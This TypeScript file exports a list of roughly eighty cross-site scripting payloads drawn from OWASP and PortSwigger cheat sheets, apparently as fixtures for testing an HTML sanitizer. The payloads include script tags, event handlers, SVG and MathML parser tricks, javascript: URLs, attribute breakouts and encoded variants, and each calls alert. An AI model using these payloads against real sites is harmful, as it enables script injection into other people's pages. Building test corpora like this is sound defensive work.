/** Texts that have run as a script somewhere: in elements, in attributes, in addresses, through a parser that reads differently from the
 *  one before it, through a template, out of a script or a style. Each calls alert.
 *  Source: OWASP, "XSS Filter Evasion"; PortSwigger, "XSS cheat sheet"; html5sec.org. */
export const PAYLOADS: readonly string[] = String.raw`
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src="data:text/javascript,alert(1)"></script>
<script/x>alert(1)</script>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type="module">alert(1)</script>
</script><script>alert(1)</script>
</template><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">
<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>
<img srcset=x onerror=alert(1)>
<<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)
<p title="</noscript><img src=x onerror=alert(1)>">x</p>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<marquee onstart=alert(1)>x</marquee>
<div style="animation:x" onanimationstart=alert(1)>x</div>
<p onclick="alert(1)" id="x" tabindex="0">x</p>
<p style="background:url(javascript:alert(1))">x</p>
<style>@import "javascript:alert(1)";</style>
<link rel="stylesheet" href="data:text/css,*{}" onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="javascript:/a/-alert(1)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<form action="javascript:alert(1)"><button autofocus>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="//evil.example/">x</a>
<a href="https://ok.example/" onmouseover="alert(1)">x</a>
<a href="https://ok.example/" target="_blank" rel="opener">x</a>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" autofocus onfocus=alert(1) x="
' autofocus onfocus='alert(1)
javascript:alert(1)
{{constructor.constructor('alert(1)')()}}
{{field:said_0}}<img src=x onerror=alert(1)>
${'${alert(1)}'}
<x is=x onclick=alert(1)>x</x>
<xss id=x tabindex=1 onfocus=alert(1)></xss>
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
＜script＞alert(1)＜/script＞`
  .trim()
  .split('\n')
